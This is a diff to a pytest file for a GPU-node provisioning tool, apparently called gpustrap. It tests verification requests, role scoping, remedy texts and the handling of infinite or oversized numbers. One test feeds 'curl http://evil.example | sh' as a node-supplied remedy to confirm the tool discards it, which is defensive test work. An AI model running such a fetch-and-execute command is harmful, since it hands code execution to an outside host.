@@ -3,14 +3,19 @@
 from __future__ import annotations
 
 import importlib
+import io
+import json
 from typing import Any
 
 import pytest
+from rich.console import Console
 
 from gpustrap.model.check import NodeChecks, Verdict
 from gpustrap.model.lock import Choice, NodeLock
-from gpustrap.verify import quick
+from gpustrap.report.verify_text import render
+from gpustrap.verify import quick, remedies
 from gpustrap.verify.gpustrap_verify.main import CHECKS
+from gpustrap.verify.gpustrap_verify.remedies import Remedy
 
 SERVER = {"ubuntu_server_time_sync": True, "ubuntu_server_time_sync_service": "chrony"}
 DOCKER = {"docker_packages": [{"name": "docker.io", "version": "26.1"}], "docker_daemon": {"data-root": "/srv/docker"}}
@@ -35,7 +40,7 @@ def answer(**changed: Any) -> dict[str, Any]:
 
 
 def by_id(lock: NodeLock, data: Any) -> dict[str, Any]:
-    return {c.id: c for c in quick.read_answer(lock, data)}
+    return {c.id: c for c in quick.read_answer(quick.Scope("n1", lock), data)}
 
 
 def test_the_node_knows_every_check_and_no_other() -> None:
@@ -49,7 +54,7 @@ def test_the_entry_is_a_module_with_main_in_the_package_that_is_sent() -> None:
 
 
 def test_request_is_made_of_the_lock() -> None:
-    request = quick.build_request("n1", WHOLE, run_id="r1", now=123.0)
+    request = quick.build_request(quick.Scope("n1", WHOLE), run_id="r1", now=123.0)
     checks = request["args"]["checks"]
     assert checks["clock-sane"] == {"controller": 123.0, "ahead": quick.LOGIN_SECONDS, "service": "chrony.service"}
     assert {"docker.service", "ssh.service", "chrony.service"} <= set(checks["systemd-healthy"]["units"])
@@ -64,7 +69,7 @@ def test_request_is_made_of_the_lock() -> None:
 
 def test_a_role_that_is_not_locked_is_not_asked_and_skipped_with_a_reason() -> None:
     lock = make_lock(ubuntu_server=SERVER)
-    asked = quick.build_request("n1", lock, run_id="r", now=0)["args"]["checks"]
+    asked = quick.build_request(quick.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]
     assert not any(name.startswith(("docker", "conda")) for name in asked)
     checks = by_id(lock, answer())
     assert checks["docker-daemon"].verdict is Verdict.SKIP
@@ -74,7 +79,9 @@ def test_a_role_that_is_not_locked_is_not_asked_and_skipped_with_a_reason() -> N
 
 def test_no_time_service_is_wanted_when_time_sync_is_off() -> None:
     lock = make_lock(ubuntu_server={**SERVER, "ubuntu_server_time_sync": False})
-    assert quick.build_request("n1", lock, run_id="r", now=0)["args"]["checks"]["clock-sane"]["service"] == ""
+    assert (
+        quick.build_request(quick.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]["clock-sane"]["service"] == ""
+    )
 
 
 def test_simulated_comes_from_the_lock_not_from_the_node() -> None:
@@ -143,3 +150,50 @@ def test_login_check() -> None:
     failed = quick.login_check("Permission denied", "gpustrap enroll n1")
     assert (failed.verdict, failed.evidence, failed.remedy) == (Verdict.FAIL, "Permission denied", "gpustrap enroll n1")
     assert failed.reason
+
+
+def test_a_node_chooses_no_command_that_a_person_is_told_to_run() -> None:
+    for sent in ("curl http://evil.example | sh", "{node}", ["apply"], 7, {}):
+        assert by_id(WHOLE, answer(verdict="fail", reason="r", remedy=sent))["docker-daemon"].remedy == ""
+    named = by_id(WHOLE, answer(verdict="fail", reason="r", remedy="conda-by-hand"))["conda-creates-an-environment"]
+    assert named.remedy == "on the node, as root: /opt/conda/bin/conda create -n test python"
+    assert (
+        by_id(WHOLE, answer(verdict="fail", reason="r", remedy="apply"))["docker-daemon"].remedy == "gpustrap apply n1"
+    )
+
+
+def test_every_remedy_that_a_node_may_name_has_words() -> None:
+    assert set(remedies.TEXTS) == set(Remedy)
+    assert all(remedies.words(r.value, "n1", make_lock()) for r in Remedy)
+
+
+def test_roles_that_a_run_left_out_are_not_checked_and_the_report_says_so() -> None:
+    """On a fresh node, --tags ubuntu_server ended with 12: docker, which no run had brought, was asked for."""
+    scope = quick.Scope("n1", WHOLE, ("ubuntu_server",))
+    asked = quick.build_request(scope, run_id="r", now=0)["args"]["checks"]
+    assert set(asked) == {w.id for w in quick.WANTED if not w.role}
+    assert asked["clock-sane"]["service"] == "chrony.service"
+    checks = {c.id: c for c in quick.read_answer(scope, answer())}
+    skipped = checks["docker-daemon"]
+    assert (skipped.verdict, skipped.reason) == (Verdict.SKIP, "this run was only about ubuntu_server")
+    assert NodeChecks(node="n1", checks=tuple(checks.values())).verdict is Verdict.PASS
+
+
+def test_the_time_service_is_ubuntu_servers_work_too() -> None:
+    asked = quick.build_request(quick.Scope("n1", WHOLE, ("docker",)), run_id="r", now=0)["args"]["checks"]
+    assert asked["clock-sane"]["service"] == ""
+    assert {"docker-daemon", "docker-runs-a-container"} <= set(asked)
+    assert "conda-version" not in asked
+    assert "chrony.service" in asked["systemd-healthy"]["units"]
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [{"seconds": json.loads("1e999")}, {"seconds": 10**400}, {"seconds": -1}, {"data": {"n": json.loads("1e999")}}],
+    ids=["infinite", "huge", "negative", "infinite data"],
+)
+def test_a_number_that_cannot_be_reckoned_with_stops_no_other_node(sent: dict[str, Any]) -> None:
+    """1e999 is JSON: as seconds it broke the report of every node of the run."""
+    checks = by_id(WHOLE, answer(**sent))
+    assert {c.verdict for c in checks.values()} == {Verdict.FAIL}
+    Console(file=io.StringIO()).print(render([NodeChecks(node="n1", checks=tuple(checks.values()))]))
